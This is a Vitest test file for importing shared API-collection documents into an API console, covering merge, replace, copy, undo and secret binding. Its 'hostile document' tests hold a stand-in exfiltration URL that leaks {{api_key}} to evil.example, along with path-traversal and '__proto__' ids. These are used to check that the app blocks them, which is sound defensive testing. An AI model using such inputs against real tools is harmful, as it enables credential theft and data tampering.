import { describe, expect, test, vi } from 'vitest';
import { buildRequest } from '#collection/build-request.ts';
import { scratchId } from '#collection/collection.ts';
import { readLink, writeLink } from '#collection/link-codec.ts';
import type { SharedItem } from '#collection/shared-document.ts';
import { walk } from '#collection/tree.ts';
import { orders as openApiOrders } from '#formats/openapi.test-support.ts';
import { readImport } from '#formats/read-import.ts';
import { StorageFull } from '#vault/errors.ts';
import {
  accept,
  backAtTheSender,
  empty,
  everything,
  handOver,
  mapItems,
  renamed,
  senderAndReceiver,
} from './accept-document.test-support.ts';
import { bindSecret } from './bind-secret.ts';
import { createEnvironment } from './change-environment.ts';
import { setUpConsoles } from './console.test-support.ts';
import { createCollection, createRequest } from './create-in-collection.ts';
import { deleteEnvironment } from './delete-environment.ts';
import { duplicateItem } from './duplicate-item.ts';
import { keepDraft } from './keep-draft.ts';
import { loadCollection } from './load-collections.ts';
import { loadEnvironment } from './load-environments.ts';
import { loadRequestContext } from './load-request-context.ts';
import { makeMarkedWorkspace, marks } from './marked-workspace.test-support.ts';
import { makeProfile } from './profiles.test-support.ts';
import { putCredential } from './put-credential.ts';
import { reviewDocument } from './review-document.ts';
import { saveRequest } from './save-request.ts';
import { sendSaved } from './send-saved.ts';
import { shareItems } from './share-items.ts';
import { patient, walkToToken } from './walk.test-support.ts';

const openConsole = setUpConsoles();
const twoConsoles = () => senderAndReceiver(openConsole);
const comesBack = () => backAtTheSender(openConsole);

describe('a document that nobody here knows', () => {
  test('is added under its own ids, with its profile and environment; undo takes all of it back', async () => {
    const { receiver, document, collectionId, folderId, listId } = await twoConsoles();
    const before = await everything(receiver);
    const accepted = await accept(receiver, document);
    expect(accepted).toMatchObject({ collectionId, requestId: listId });
    const [profile] = (await receiver.vault.loadProfiles()).records;
    expect(profile).toMatchObject({
      name: 'Acme – dev',
      clientId: 'acme-client',
      clientSecret: null,
      tokenOrigins: [],
    });
    const environment = await loadEnvironment(receiver, accepted.environmentId ?? '');
    expect(environment).toMatchObject({ name: 'Development', profileId: profile?.id });
    expect(environment.variables[1]?.value).toEqual({ kind: 'secret', secret: null, origins: [] });
    const wish = { collectionId, environmentId: environment.id };
    const request = await receiver.vault.loadRequest(listId);
    const built = buildRequest(request!, await loadRequestContext(receiver, { request: request!, ...wish }));
    expect(built).toMatchObject({
      kind: 'blocked',
      obstacles: [
        { kind: 'missing-secret', name: 'api_key' },
        { kind: 'missing-credential', label: 'password', group: { id: folderId } },
      ],
    });
    await accepted.undo();
    expect(await everything(receiver)).toEqual(before);
  });

  test('what was put in at the review goes to the vault, bound to nothing, and undo takes it out', async () => {
    const { receiver, document, collectionId, folderId, stored } = await twoConsoles();
    const before = await stored();
    const accepted = await accept(receiver, document, {
      secrets: [
        { place: { kind: 'variable', groupId: collectionId, name: 'api_key' }, text: 'their-own-api-key-1' },
        { place: { kind: 'environment', environment: 'Development', name: 'env_key' }, text: 'their-own-env-key-1' },
        { place: { kind: 'auth', ownerId: folderId }, text: 'their-own-password-1' },
        { place: { kind: 'profile', role: 'api', secret: 'clientSecret' }, text: 'their-own-secret-1' },
        { place: { kind: 'variable', groupId: 'nowhere', name: 'x' }, text: 'goes nowhere' },
      ],
      values: [
        { place: { kind: 'environment', environment: 'Development', name: 'base' }, text: 'http://localhost:9' },
      ],
    });
    const { vault } = receiver;
    const collection = await loadCollection(receiver, collectionId);
    const [key] = collection.variables;
    const [folder] = collection.items;
    const { variables } = await loadEnvironment(receiver, accepted.environmentId ?? '');
    const profile = await vault.loadProfile(accepted.profileIds[0] ?? '');
    const password = folder?.kind === 'folder' && folder.auth.kind === 'basic' ? folder.auth.password : null;
    const refs = [
      key?.value.kind === 'secret' ? key.value.secret : null,
      variables[1]?.value.kind === 'secret' ? variables[1].value.secret : null,
      password?.kind === 'secret' ? password.secret : null,
      profile?.clientSecret ?? null,
    ];
    const texts = await Promise.all(refs.map(async (ref) => ref && (await vault.open(ref)).reveal()));
    expect(texts).toEqual(['their-own-api-key-1', 'their-own-env-key-1', 'their-own-password-1', 'their-own-secret-1']);
    expect(await Promise.all(refs.map((ref) => ref && vault.loadOriginsOf(ref)))).toEqual([[], [], [], []]);
    expect(key?.value).toMatchObject({ origins: [] });
    expect(variables[0]?.value).toEqual({ kind: 'text', text: 'http://localhost:9' });
    await accepted.undo();
    expect(await stored()).toBe(before);
  });

  test('is bound to a profile that is here, which stays as it is', async () => {
    const { receiver, document } = await twoConsoles();
    const own = await makeMarkedWorkspace(receiver);
    const before = await receiver.vault.loadProfile(own.profileId);
    const bindings = { api: { kind: 'profile', id: own.profileId } } as const;
    const accepted = await accept(receiver, document, { how: 'copy', bindings });
    expect(accepted.profileIds).toEqual([]);
    expect((await receiver.vault.loadProfiles()).records).toEqual([before]);
    expect(await loadEnvironment(receiver, accepted.environmentId ?? '')).toMatchObject({
      name: 'Development 2',
      profileId: own.profileId,
    });
  });

  test('with two environments of one name here, both go into that one', async () => {
    const { receiver, document } = await twoConsoles();
    const id = await createEnvironment(receiver, { name: 'Development', profileId: null });
    const named = (name: string) => ({
      ...{ name: 'Development', role: null },
      variables: [{ name, isEnabled: true, value: { kind: 'text', text: name } } as const],
    });
    await accept(receiver, { ...document, environments: [named('first'), named('second')] });
    const { variables } = await loadEnvironment(receiver, id);
    expect(variables.map(({ name }) => name)).toEqual(['first', 'second']);
  });

  test.each(['add', 'copy'] as const)('with two environments of one name in it, makes one: %s', async (how) => {
    const { receiver, document } = await twoConsoles();
    const key = { name: 'key', isEnabled: true, value: { kind: 'secret' } } as const;
    const named = (role: string | null, name: string) => ({
      ...{ name: 'Shared', role },
      variables: [key, { name, isEnabled: true, value: { kind: 'text', text: name } } as const],
    });
    const secrets = [
      { place: { kind: 'environment', environment: 'Shared', name: 'key' }, text: 'one-key-1' } as const,
    ];
    const twice = { ...document, environments: [named(null, 'first'), named('api', 'second')] };
    const accepted = await accept(receiver, twice, { how, secrets });
    const made = (await receiver.vault.loadEnvironments()).records.filter(({ name }) => name.startsWith('Shared'));
    expect(made).toMatchObject([{ id: accepted.environmentId, name: 'Shared', profileId: accepted.profileIds[0] }]);
    expect(made[0]?.variables.map(({ name }) => name)).toEqual(['key', 'first', 'second']);
  });

  test('of profiles alone makes profiles alone', async () => {
    const { sender, receiver, profileId } = await twoConsoles();
    const wish = { what: { kind: 'profile', id: profileId }, environmentIds: [], includesClientId: true } as const;
    const shared = await shareItems(sender, wish);
    if (shared.kind === 'refused') throw new Error('It is small');
    const before = (await everything(receiver)).collections;
    expect(await accept(receiver, shared.document)).toMatchObject({
      collectionId: null,
      environmentId: null,
      profileIds: [expect.any(String)],
    });
    expect((await everything(receiver)).collections).toEqual(before);
  });
});

test('from a link to the first Send: bind the profile that is here, and it answers', async () => {
  const sender = (await openConsole()).services;
  const profileId = await makeProfile(sender, 'web');
  const environmentId = await createEnvironment(sender, { name: 'Practice', profileId });
  const collectionId = await createCollection(sender, 'Practice calls');
  const place = { kind: 'into', id: collectionId } as const;
  await createRequest(sender, { collectionId, place, request: { name: 'Me', url: '{{practice}}/api/me' } });
  const what = { kind: 'collection', id: collectionId, itemId: null } as const;
  const shared = await shareItems(sender, { what, environmentIds: [environmentId], includesClientId: false });
  const read = await readLink(
    `http://127.0.0.1:6284/s#${await writeLink(shared.kind === 'shared' ? shared.document : empty)}`,
  );
  if (read.kind === 'refused') throw new Error(`Refused: ${read.refusal.kind}`);
  const browser = await openConsole();
  const token = await walkToToken(browser);
  const receiver = browser.services;
  const review = await reviewDocument(receiver, read.document);
  expect(review.profiles[0]?.candidates).toMatchObject([{ id: token.profileId, hasSecret: true }]);
  const bindings = { api: { kind: 'profile', id: token.profileId } } as const;
  const accepted = await accept(receiver, read.document, { bindings });
  const request = await receiver.vault.loadRequest(accepted.requestId ?? '');
  const { environmentId: inUse, collectionId: added } = accepted;
  const sent = await sendSaved(receiver, { request: request!, collectionId: added, environmentId: inUse }, patient);
  const call = sent.kind === 'sent' ? await receiver.vault.loadCall(sent.callId) : null;
  expect(call?.head?.status).toBe(200);
});

describe('a collection that is here already', () => {
  test('merged unchanged, nothing changes', async () => {
    const { services, document, bindings } = await comesBack();
    const before = await everything(services);
    const accepted = await accept(services, document, { how: 'merge', bindings });
    expect(await everything(services)).toEqual(before);
    await accepted.undo();
    expect(await everything(services)).toEqual(before);
  });

  test('merged, takes what changed and what is new; what only yours has stays, secrets with it', async () => {
    const { services, document, bindings, collectionId, listId, addId } = await comesBack();
    const place = { kind: 'into', id: collectionId } as const;
    const { id: mine } = await createRequest(services, {
      collectionId,
      place,
      request: { name: 'Mine', url: '/mine' },
    });
    const before = await everything(services);
    const changed = renamed(document, 'List orders', { url: '{{base}}/orders?state=open' } as Partial<SharedItem>);
    const [, add] = changed.collection?.items ?? [];
    const extra = { ...add, id: 'extra', name: 'Extra' } as SharedItem;
    const grown = { ...changed, collection: { ...changed.collection!, items: [...changed.collection!.items, extra] } };
    const accepted = await accept(services, grown, { how: 'merge', bindings });
    const collection = await loadCollection(services, collectionId);
    expect([...walk(collection)].map(([item]) => item.id)).toEqual([expect.any(String), listId, addId, 'extra', mine]);
    expect(await services.vault.loadRequest(listId)).toMatchObject({ url: '{{base}}/orders?state=open' });
    expect(collection.variables).toEqual(before.collections.find(({ id }) => id === collectionId)?.variables);
    await accepted.undo();
    expect(await everything(services)).toEqual(before);
  });

  test('merged but for what is to stay as it is here: a request, a folder, the collection itself', async () => {
    const { services, document, bindings, collectionId, folderId, listId, addId } = await comesBack();
    const before = await everything(services);
    const changed = mapItems(document, (item) => ({ ...item, name: `${item.name}, theirs` }));
    const theirs = { ...changed, collection: { ...changed.collection!, name: 'Theirs' } };
    const keeps = [collectionId, folderId, listId];
    const accepted = await accept(services, theirs, { how: 'merge', bindings, keeps });
    const collection = await loadCollection(services, collectionId);
    const names = [collection.name, ...[...walk(collection)].map(([item]) => item.name)];
    const [folder, list, add] = [...walk(before.collections.find(({ id }) => id === collectionId)!)].map(
      ([item]) => item.name,
    );
    expect(names).toEqual(['Orders', folder, list, `${add}, theirs`]);
    expect((await services.vault.loadRequest(listId))?.changedAt).toBe(
      before.requests.find((each) => each?.id === listId)?.changedAt,
    );
    expect((await services.vault.loadRequest(addId))?.name).toBe(`${add}, theirs`);
    await accepted.undo();
    expect(await everything(services)).toEqual(before);
  });

  test('a kept collection gets the secret variable that a request of theirs asks for; undo takes it out', async () => {
    const { services, document, bindings, collectionId, addId } = await comesBack();
    const before = await everything(services);
    const variable = { name: 'X-Api-Key', isEnabled: true, value: { kind: 'secret' } } as const;
    const asking = mapItems(document, (item) =>
      item.id === addId ? ({ ...item, url: 'https://api.example/?k={{X-Api-Key}}' } as SharedItem) : item,
    );
    const { variables, ...rest } = asking.collection!;
    const theirs = { ...asking, collection: { ...rest, notes: 'Theirs', variables: [...variables, variable] } };
    const place = { kind: 'variable', groupId: collectionId, name: 'X-Api-Key' } as const;
    const secrets = [{ place, text: 'q7Zp41LkWm90TtXe' }];
    const accepted = await accept(services, theirs, { how: 'merge', bindings, secrets, keeps: [collectionId] });
    const collection = await loadCollection(services, collectionId);
    expect(collection.notes).not.toBe('Theirs');
    const added = collection.variables.find(({ name }) => name === 'X-Api-Key')?.value;
    const ref = added?.kind === 'secret' ? added.secret : null;
    expect(ref && (await services.vault.open(ref)).reveal()).toBe('q7Zp41LkWm90TtXe');
    const request = await services.vault.loadRequest(addId);
    const context = await loadRequestContext(services, { request: request!, collectionId, environmentId: null });
    expect(JSON.stringify(buildRequest(request!, context))).not.toContain('unresolved-variable');
    await accepted.undo();
    await expect(ref && services.vault.open(ref)).rejects.toThrow();
    expect(await everything(services)).toEqual(before);
  });

  test('replaced, is theirs; what was only yours comes back with undo, secrets and all', async () => {
    const { services, document, bindings, stored, collectionId, addId } = await comesBack();
    const before = await everything(services);
    const whole = await stored();
    const smaller = mapItems(document, (item) => (item.kind === 'folder' ? null : item));
    const accepted = await accept(services, smaller, { how: 'replace', bindings });
    const collection = await loadCollection(services, collectionId);
    expect([...walk(collection)].map(([item]) => item.id)).toEqual([addId]);
    expect((await stored()).length).toBeLessThan(whole.length);
    await accepted.undo();
    const after = await everything(services);
    expect(after).toEqual(before);
    const folder = after.collections.flatMap(({ items }) => items).find(({ kind }) => kind === 'folder');
    const password = folder?.kind === 'folder' && folder.auth.kind === 'basic' ? folder.auth.password : null;
    const ref = password?.kind === 'secret' ? password.secret : null;
    expect(ref && (await services.vault.open(ref)).reveal()).toBe(marks.credential);
  });

  test('replaced, is stored though what it leaves over can’t be removed, and undo takes it back', async () => {
    const { services, document, bindings, collectionId, environmentId } = await comesBack();
    const before = await everything(services);
    const key = { name: 'env_key', isEnabled: true, value: { kind: 'text', text: 'theirs' } } as const;
    const smaller = {
      ...mapItems(document, (item) => (item.kind === 'folder' ? null : item)),
      environments: [{ name: 'Development', role: 'api', variables: [key] }],
    };
    const place = { kind: 'environment', environment: 'Development', name: 'env_key' } as const;
    const remove = vi.spyOn(services.vault, 'remove').mockRejectedValue(new StorageFull());
    const chosen = [{ place, whose: 'theirs' }] as const;
    const accepted = await accept(services, smaller, { how: 'replace', bindings, chosen });
    expect(remove).toHaveBeenCalledTimes(2);
    remove.mockRestore();
    expect((await loadCollection(services, collectionId)).items).toHaveLength(1);
    expect((await loadEnvironment(services, environmentId)).variables).toContainEqual(key);
    await accepted.undo();
    expect(await everything(services)).toEqual(before);
  });

  test('replaced, leaves the password that unsaved changes still hold', async () => {
    const { services, document, bindings, addId } = await comesBack();
    const add = await services.vault.loadRequest(addId);
    const token = await putCredential(services, { label: 'token', text: 'typed-token-0123456789' });
    const saved = await saveRequest(services, {
      draft: { request: { ...add!, auth: { kind: 'bearer', token } }, basedOn: add!.changedAt },
    });
    if (saved.kind !== 'saved') throw new Error('Nobody else saves it');
    await keepDraft(services, { request: { ...saved.request, url: '/typing' }, basedOn: saved.request.changedAt });
    await accept(services, document, { how: 'replace', bindings });
    const draft = await services.vault.loadDraft(addId);
    expect(draft?.request.auth).toEqual({ kind: 'bearer', token });
    expect(token.kind === 'secret' && (await services.vault.open(token.secret)).reveal()).toBe(
      'typed-token-0123456789',
    );
  });

  test('copied, stands beside it with ids of its own and none of its secrets', async () => {
    const { services, document, bindings, collectionId } = await comesBack();
    const before = await everything(services);
    const accepted = await accept(services, document, { how: 'copy', bindings });
    const copy = await loadCollection(services, accepted.collectionId ?? '');
    expect(copy.name).toBe('Orders 2');
    const ids = new Set([...walk(await loadCollection(services, collectionId))].map(([item]) => item.id));
    expect([...walk(copy)].filter(([item]) => ids.has(item.id))).toEqual([]);
    expect(copy.variables).toMatchObject([{ name: 'api_key', value: { kind: 'secret', secret: null, origins: [] } }]);
    await accepted.undo();
    expect(await everything(services)).toEqual(before);
  });

  test('a part goes to its place, and can’t replace the whole', async () => {
    const { services, collectionId, folderId, listId, environmentId, profileId, addId } = await comesBack();
    const made = { collectionId, environmentId, profileId, folderId, listId, addId, scratchId };
    const part = renamed(await handOver(services, made, listId), 'List orders', {
      method: 'HEAD',
    } as Partial<SharedItem>);
    await accept(services, part, { how: 'merge', bindings: { api: { kind: 'profile', id: profileId } } });
    const collection = await loadCollection(services, collectionId);
    expect(collection.items).toMatchObject([{ id: folderId, items: [{ id: listId, method: 'HEAD' }] }, { id: addId }]);
    expect(collection).toMatchObject({ name: 'Orders', auth: { kind: 'profile', profileId: null } });
    await expect(accept(services, part, { how: 'replace' })).rejects.toThrow('part');
  });

  test('deleted in another tab meanwhile, is added', async () => {
    const { receiver, document, collectionId } = await twoConsoles();
    expect(await accept(receiver, document, { how: 'merge' })).toMatchObject({ collectionId });
  });

  test('an environment of the same name keeps its values and gets what it lacks', async () => {
    const { services, document, bindings, environmentId } = await comesBack();
    const variables = [
      { name: 'base', isEnabled: true, value: { kind: 'text', text: 'https://evil.example' } },
      { name: 'region', isEnabled: true, value: { kind: 'text', text: 'eu' } },
    ] as const;
    const changed = { ...document, environments: [{ name: 'Development', role: 'api', variables }] };
    const before = await loadEnvironment(services, environmentId);
    const accepted = await accept(services, changed, { how: 'merge', bindings });
    const after = await loadEnvironment(services, environmentId);
    expect(after).toEqual({ ...before, variables: [...before.variables, variables[1]] });
    await accepted.undo();
    expect(await loadEnvironment(services, environmentId)).toEqual(before);
  });

  test('an environment takes the values that are chosen to be theirs; the secret that gave way comes back with undo', async () => {
    const { services, document, bindings, environmentId } = await comesBack();
    const before = await loadEnvironment(services, environmentId);
    const base = { name: 'base', isEnabled: true, value: { kind: 'text', text: 'https://new.example' } } as const;
    const plain = { name: 'env_key', isEnabled: true, value: { kind: 'text', text: 'public' } } as const;
    const changed = { ...document, environments: [{ name: 'Development', role: 'api', variables: [base, plain] }] };
    const chosen = ['base', 'env_key'].map((name) => ({
      place: { kind: 'environment', environment: 'Development', name } as const,
      whose: 'theirs' as const,
    }));
    const secrets = async () =>
      (await services.vault.loadSecrets()).records.map(({ value }) => value.reveal()).toSorted();
    const had = await secrets();
    const accepted = await accept(services, changed, { how: 'merge', bindings, chosen });
    expect((await loadEnvironment(services, environmentId)).variables).toEqual([base, plain]);
    expect(await secrets()).toEqual(had.filter((text) => text !== marks.environmentVariable));
    await accepted.undo();
    expect(await loadEnvironment(services, environmentId)).toEqual(before);
    expect(await secrets()).toEqual(had);
  });

  test('taken back once its environment is gone, leaves nothing of the secret that had given way', async () => {
    const { services, document, bindings, environmentId } = await comesBack();
    const plain = { name: 'env_key', isEnabled: true, value: { kind: 'text', text: 'public' } } as const;
    const changed = { ...document, environments: [{ name: 'Development', role: 'api', variables: [plain] }] };
    const place = { kind: 'environment', environment: 'Development', name: 'env_key' } as const;
    const accepted = await accept(services, changed, { how: 'merge', bindings, chosen: [{ place, whose: 'theirs' }] });
    await deleteEnvironment(services, environmentId);
    const count = async () => (await services.vault.loadSecrets()).records.length;
    const left = await count();
    await accepted.undo();
    expect(await count()).toBe(left);
  });
});

test('a description of an API that is opened again is known: what is the same says so', async () => {
  const { services } = await openConsole();
  const read = await readImport(JSON.stringify(openApiOrders), 'orders.json');
  if (read.kind !== 'imported') throw new Error(`It was ${read.kind}`);
  const { document } = read.imported;
  expect((await reviewDocument(services, document)).existing).toBeNull();
  const { collectionId } = await accept(services, document);
  const again = await reviewDocument(services, document);
  expect(again.existing).toEqual({ id: collectionId, name: 'Orders' });
  expect(again.outcomes).toEqual({ added: 0, changed: 0, onlyYours: 0 });
});

test('what is kept of an import stands with its collection alone: no document, no copy has it, and Undo takes it out', async () => {
  const { services, document, bindings, collectionId } = await comesBack();
  const before = await loadCollection(services, collectionId);
  const imported = {
    ...{ from: 'orders.json', format: 'Postman 2.1', size: 1, findingCount: 1 },
    counts: { requests: 3, folders: 1, variables: 1, environments: 1, profiles: 0, secrets: 0 },
    findings: [{ kind: 'dropped', where: 'Orders', path: 'event[0]' }],
  } as const;
  const accepted = await accept(services, document, { how: 'merge', bindings, imported });
  const note = { ...imported, importedAt: services.now() };
  expect((await loadCollection(services, collectionId)).imported).toEqual(note);
  const what = { kind: 'collection', id: collectionId, itemId: null } as const;
  const shared = await shareItems(services, { what, environmentIds: [], includesClientId: false });
  expect(shared).toMatchObject({ kind: 'shared', text: expect.not.stringContaining('event[0]') });
  const copy = await duplicateItem(services, { collectionId, id: collectionId });
  expect((await loadCollection(services, copy.id)).imported).toBeUndefined();
  await accepted.undo();
  expect(await loadCollection(services, collectionId)).toEqual(before);
});

describe('a hostile document', () => {
  test('takes no id of anything else that is here: nothing of that changes', async () => {
    const { receiver, document } = await twoConsoles();
    const own = await makeMarkedWorkspace(receiver);
    const before = await everything(receiver);
    const target = await receiver.vault.loadRequest(own.listId);
    const hostile = renamed(document, 'List orders', {
      id: own.listId,
      url: 'https://evil.example',
    } as Partial<SharedItem>);
    for (const id of [scratchId, 'practice', own.environmentId, '../../settings', '__proto__', own.folderId]) {
      const accepted = await accept(
        receiver,
        { ...hostile, collection: { ...hostile.collection!, id } },
        { how: 'merge' },
      );
      // An environment's id is nobody's among collections.
      if (id !== own.environmentId) expect(accepted.collectionId).not.toBe(id);
      expect(await receiver.vault.loadRequest(own.listId)).toEqual(target);
      await accepted.undo();
    }
    expect(await everything(receiver)).toEqual(before);
  });

  test('sends no secret elsewhere: one that is here stays bound, and the new origin is an obstacle that names both', async () => {
    const { services } = await openConsole();
    const made = await makeMarkedWorkspace(services);
    const { collectionId, listId, environmentId, profileId } = made;
    const owner = { kind: 'group', id: collectionId } as const;
    await bindSecret(services, {
      secret: { kind: 'variable', owner, name: 'api_key' },
      origin: 'https://api.acme.example',
    });
    const document = await handOver(services, made);
    const stolen = renamed(document, 'List orders', {
      url: 'https://evil.example/?k={{api_key}}',
    } as Partial<SharedItem>);
    await accept(services, stolen, { how: 'merge', bindings: { api: { kind: 'profile', id: profileId } } });
    const request = await services.vault.loadRequest(listId);
    const context = await loadRequestContext(services, { request: request!, collectionId, environmentId });
    const built = buildRequest(request!, context);
    expect(built.kind === 'blocked' && built.obstacles).toContainEqual({
      ...{ kind: 'new-origin', origin: 'https://evil.example', allowed: ['https://api.acme.example'] },
      secret: expect.objectContaining({ kind: 'variable', name: 'api_key' }),
    });
  });

  test('a review that nobody accepts stores nothing', async () => {
    const { receiver, document, stored } = await twoConsoles();
    await makeMarkedWorkspace(receiver);
    const before = await stored();
    await reviewDocument(receiver, document);
    expect(await stored()).toBe(before);
  });
});
